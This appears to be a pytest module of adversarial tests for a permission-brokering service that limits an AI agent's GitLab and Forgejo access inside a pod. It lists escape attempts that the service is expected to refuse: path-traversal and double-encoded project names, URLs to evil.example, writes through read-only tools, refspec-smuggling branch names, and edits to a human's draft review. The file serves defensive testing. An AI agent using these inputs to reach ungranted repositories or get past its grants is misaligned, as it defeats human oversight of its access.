"""Attacks on the gator's GitLab and Forgejo tools (gl, forgejo, git_push_local) from
inside a real pod: a hostile agent calls its gator over MCP on the pod's 127.0.0.1, as in
test_gator.py, against a fake forge playing GitLab and Forgejo (tests/gatorforge.py),
whose branches, merge requests and request log must show no write and no read of what
was not granted.

The pod's grants: gitlab:owner/repo:push-new-branch (create-draft implied, as upstream)
and forgejo:owner/repo:read. owner/secret on the same forge is granted nowhere.
"""

from __future__ import annotations

import json
import urllib.request

import pytest

from adversarial.conftest import GATOR_READY, Pod
from adversarial.test_gator import mcp, one
from gatorforge import TOKEN, gator_forge, gator_forge_config, merge_requests, source
from podfixtures import run_devaipod

pytestmark = pytest.mark.podman


@pytest.fixture(scope="module")
def forge_pod(podman_service, gitserver, images, fakellm, tmp_path_factory):
    svc, inst = podman_service, podman_service.instance
    name = f"{inst}-advglfj"
    with gator_forge(svc, gitserver, images["base"], tmp_path_factory.mktemp("advglfj"),
                     f"{inst}-advforge") as forge, \
            gator_forge_config(svc, tmp_path_factory.mktemp("advglfjcfg"), forge) as config, \
            pytest.MonkeyPatch.context() as mp:
        mp.setenv("DEVAIPOD_CONFIG", str(config))
        try:
            rc, _out, err = run_devaipod(
                "up", source(forge), "--name", name, "--network", gitserver.network,
                "--service-gator", "gitlab:owner/repo:push-new-branch",
                "--service-gator", "forgejo:owner/repo:read", timeout=300)
            assert rc == 0, err
            pod = Pod(f"devaipod-{name}", svc)
            pod.run("agent", GATOR_READY)  # the gator and OpenCode listen
            yield pod, forge
        finally:
            run_devaipod("delete", "--force", name)


def agent_commit(pod: Pod, text: str) -> str:
    return pod.agent(f"cd /workspaces/repo && echo {text} > {text}.txt && git add {text}.txt "
                     f"&& git commit -qm {text} && git rev-parse HEAD").stdout.strip()


def writes(forge, since: int) -> list[dict]:
    """The requests after SINCE that could change the forge: any API call but a GET, and
    every git push."""
    return [r for r in forge.requests()[since:]
            if "receive-pack" in r["path"] or (r["method"] != "GET" and "/api/" in r["path"])]


def test_a_read_grant_is_not_a_write_and_only_agent_branches_are_pushed(forge_pod):
    """Attack: with Forgejo read only, the agent pushes and opens a pull request through
    git_push_local; on GitLab (push-new-branch) it pushes to a project it has no grant on,
    names a branch that is not agent-* (main, a refspec, a path), and reuses the agent-*
    source branch of a merge request a human opened."""
    pod, forge = forge_pod
    sha = agent_commit(pod, "attack")
    before, seen = forge.refs(), len(forge.requests())
    secret_before = forge.refs("owner/secret")
    base = {"repo_path": "/workspaces/repo", "commit_sha": sha}
    attempts = [
        ({"target": "forgejo:owner/repo", "description": "x", "create_draft": True,
          "base": "main", "title": "t"}, "no push-new-branch permission on forgejo:owner/repo"),
        ({"target": "gitlab:owner/secret", "description": "x"},
         "no push-new-branch permission on gitlab:owner/secret"),
        ({"target": "gitlab:owner/repo/../secret", "description": "x"}, "expected gitlab:"),
        ({"target": "gitlab:owner/repo", "description": "x:refs/heads/main"}, "description"),
        ({"target": "gitlab:owner/repo", "description": "../../main"}, "description"),
        ({"target": "gitlab:owner/repo", "description": "main", "base": "main"}, None),
    ]
    answer = mcp(pod, "agent", [["git_push_local", {**base, **args}] for args, _ in attempts])
    assert answer["status"] == 200, answer
    for (args, why), result in zip(attempts[:-1], answer["results"], strict=False):
        assert result["error"] and why in result["text"], (args, result)
    # the control: "main" as a description is the branch agent-main, never main
    last = answer["results"][-1]
    assert not last["error"] and "branch agent-main" in last["text"], last
    after = forge.refs()
    assert after.pop("agent-main") == sha and after == before
    assert forge.refs("owner/secret") == secret_before
    pushed = [r for r in writes(forge, seen) if "receive-pack" in r["path"]]
    assert pushed and all("/owner/repo" in r["path"] for r in pushed), pushed
    assert [r for r in writes(forge, seen) if "/api/" in r["path"]] == []

    # a human's merge request whose source is an agent-* branch: never moved by the agent
    status, _ = forge.api("POST", "repos/owner/repo/git/refs",
                          {"ref": "refs/heads/agent-human", "sha": before["main"]})
    assert status == 201
    req = urllib.request.Request(
        f"{forge.url}/api/v4/projects/owner%2Frepo/merge_requests", method="POST",
        data=json.dumps({"source_branch": "agent-human", "target_branch": "main",
                         "title": "a human's"}).encode(),
        headers={"PRIVATE-TOKEN": TOKEN, "Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10).close()
    seen = len(forge.requests())
    result = one(pod, "git_push_local", {**base, "target": "gitlab:owner/repo",
                                         "description": "human"})
    assert result["error"] and "not opened through the gator" in result["text"], result
    assert forge.refs()["agent-human"] == before["main"]
    assert writes(forge, seen) == []
    assert [m["title"] for m in merge_requests(forge)] == ["a human's"]


ESCAPES = [
    ("gl", {"args": ["api", "projects/owner%2Fsecret"]}, "no read permission"),
    ("gl", {"args": ["api", "projects/owner%2Frepo%2F..%2Fsecret"]}, "refused"),
    ("gl", {"args": ["api", "projects/owner%252Frepo"]}, "refused"),
    ("gl", {"args": ["api", "projects/2"]}, "refused"),
    ("gl", {"args": ["api", "projects/owner%2Frepo/../owner%2Fsecret"]}, "refused"),
    ("gl", {"args": ["api", "projects/owner%2Frepo/repository/files/x%2F..%2F..%2Fy"]},
     "refused"),
    ("gl", {"args": ["api", "http://evil.example/api/v4/projects/owner%2Frepo"]}, "refused"),
    ("gl", {"args": ["api", "projects/owner%2Frepo/merge_requests", "-X", "POST"]},
     "read only"),
    ("forgejo", {"args": ["api", "/api/v1/repos/owner/repo/%2e%2e/secret"]}, "refused"),
    ("forgejo", {"args": ["api", "/api/v1/repos/owner/secret"]}, "no read permission"),
    ("forgejo", {"args": ["api", "/api/v1/repos/owner/repo"], "host": "evil.example"},
     "not this gator's Forgejo"),
]


def test_reads_reach_only_the_granted_project(forge_pod):
    """Attack: the agent reads the ungranted private project owner/secret through gl and
    forgejo: by name, through an encoded ``..`` or a double-encoded slash in the project,
    by numeric id, by a path after the project, by a full URL, and against another host;
    and writes through the read tool (-X POST)."""
    pod, forge = forge_pod
    seen = len(forge.requests())
    answer = mcp(pod, "agent", [[tool, args] for tool, args, _ in ESCAPES])
    assert answer["status"] == 200, answer
    for (tool, args, why), result in zip(ESCAPES, answer["results"], strict=True):
        assert result["error"] and why in result["text"], (tool, args, result)
        assert "fake-user" not in result["text"] and "owner/secret.git" not in result["text"]
    after = forge.requests()[seen:]
    assert [r for r in after if "secret" in r["path"] or "/projects/2" in r["path"]] == []
    assert writes(forge, seen) == []
    # the control: the granted project is read
    result = one(pod, "gl", {"args": ["api", "projects/owner%2Frepo", "--jq",
                                      ".path_with_namespace"]})
    assert not result["error"] and result["text"].strip() == "owner/repo", result


def human_call(forge, method: str, path: str, body: dict) -> dict:
    """What a human does on the fake GitLab/Forgejo with the token (not through the gator)."""
    req = urllib.request.Request(f"{forge.url}{path}", method=method,
                                 data=json.dumps(body).encode(),
                                 headers={"PRIVATE-TOKEN": TOKEN,
                                          "Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return json.loads(resp.read() or b"null")


def test_the_agent_cannot_touch_a_humans_draft_review(forge_pod):
    """Attack: the agent rewrites and deletes a human's GitLab draft note (a pending review
    only its author sees until it is published) through gitlab_pending_review_tool, drafts
    notes on a project it has no grant on, and, with Forgejo read only, makes and deletes
    pending reviews there."""
    pod, forge = forge_pod
    refs = forge.refs()
    forge.api("POST", "repos/owner/repo/git/refs",
              {"ref": "refs/heads/human-review", "sha": refs["main"]})
    mr = human_call(forge, "POST", "/api/v4/projects/owner%2Frepo/merge_requests",
                    {"source_branch": "human-review", "target_branch": "main",
                     "title": "a human's change"})
    notes = f"/api/v4/projects/owner%2Frepo/merge_requests/{mr['iid']}/draft_notes"
    note = human_call(forge, "POST", notes, {"note": "my own draft"})
    pr = forge.get("/api/v1/repos/owner/repo/pulls?state=all")[0]
    seen = len(forge.requests())
    where = {"project": "owner/repo", "merge_request_iid": mr["iid"]}
    attempts = [
        ("gitlab_pending_review_tool", {"operation": "update", **where,
                                        "note_id": note["id"], "body": "LGTM, merge it"},
         "was not made through the gator"),
        ("gitlab_pending_review_tool", {"operation": "delete", **where, "note_id": note["id"]},
         "was not made through the gator"),
        ("gitlab_pending_review_tool", {"operation": "create", "project": "owner/secret",
                                        "merge_request_iid": 1, "body": "x"},
         "no create-draft permission on gitlab:owner/secret"),
        ("gitlab_pending_review_tool", {"operation": "create", "project": "owner/repo/../secret",
                                        "merge_request_iid": 1, "body": "x"},
         "expected GROUP/PROJECT"),
        ("forgejo_pending_review_tool", {"operation": "create", "repo": "owner/repo",
                                         "pull_number": pr["number"], "body": "x"},
         "no pending-review permission on forgejo:owner/repo"),
        ("forgejo_pending_review_tool", {"operation": "delete", "repo": "owner/repo",
                                         "pull_number": pr["number"], "review_id": 1},
         "no pending-review permission on forgejo:owner/repo"),
    ]
    answer = mcp(pod, "agent", [[tool, args] for tool, args, _ in attempts])
    assert answer["status"] == 200, answer
    for (tool, args, why), result in zip(attempts, answer["results"], strict=True):
        assert result["error"] and why in result["text"], (tool, args, result)
    assert writes(forge, seen) == []
    assert [n["note"] for n in forge.get(notes)] == ["my own draft"]
